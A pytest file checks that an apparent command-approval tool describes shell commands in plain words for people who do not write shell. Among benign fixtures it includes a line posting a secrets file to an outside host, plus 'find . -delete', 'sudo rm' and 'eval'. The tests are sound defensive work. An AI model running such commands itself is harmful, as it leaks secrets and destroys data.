"""Each command says what it does to someone who does not write shell."""

from __future__ import annotations

import pytest

from approvals.policy.commands.does import does, part_does
from approvals.policy.commands.parse import read_script


@pytest.mark.parametrize(
    ("script", "said"),
    [
        ("cd src", "changes folder"),
        ("npm ci", "installs packages, runs their scripts"),
        ("npm test", "runs code of the project"),
        ("python3 -m pip install x", "runs the module pip"),
        ("python3 app.py", "runs the script app.py: not read"),
        ("bash run.sh", "runs the script run.sh: not read"),
        ("curl -s https://example.org/ip", "downloads from example.org"),
        ("curl -d @secrets https://b.example", "sends data to b.example"),
        ("curl x", "downloads from an address not known"),
        ("curl 'http://[bad'", "downloads from an address not known"),
        ("git push origin main", "sends commits to another repository"),
        ("git -C x log", "shows the history"),
        ("sudo rm x", "starts a program as another user"),
        ("$X y", "starts a program that is not known before it runs"),
        ("made-up x", "runs made-up"),
        ("find . -delete", "finds files; deletes what it finds"),
        ("echo hi > out/x", "shows text; its output goes to out/x"),
        ("echo hi > $OUT", "shows text; its output goes to a file not known"),
        ("A=1 make", "runs code of the project; with A set"),
    ],
)
def test_what_a_command_does_is_said_in_words(script: str, said: str) -> None:
    assert said in [does(command) for command in read_script(script).commands]


def test_code_in_the_line_is_said_to_be_unreadable() -> None:
    (command,) = read_script("python3 -c 'import os'").commands
    assert does(command).endswith("code in the line itself: not readable")


@pytest.mark.parametrize(
    ("script", "said"),
    [
        ("ls *.py", "stands for the files that are there when it runs"),
        ("ls &", "goes on without waiting"),
        ("eval $X", "could run anything"),
        ("A=1", "sets a variable"),
        ("ls > x", "writes a file"),
        ("ls $X", "a value nobody knows before it runs"),
    ],
)
def test_what_is_more_than_words_is_said_too(script: str, said: str) -> None:
    assert said in [part_does(part) for part in read_script(script).opaque]
